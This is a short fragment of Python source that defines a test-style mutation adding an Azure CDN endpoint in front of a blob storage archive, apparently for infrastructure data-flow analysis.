    Mutation("DF-cdn-edge-in-front-of-the-archive", FLOWS, None, adds=(Add(
        "edge", "azure-native:cdn:Endpoint",
        {"location": "Global", "profileName": "edge", "endpointName": "archive",
         "origins": [{"name": "blob", "hostName": "archive.blob.core.windows.net",
                      "privateLinkResourceId": "<ref:azure-native:storage:StorageAccount>"}]},
        "Microsoft.Cdn/profiles/edge/endpoints/archive"),)),
]
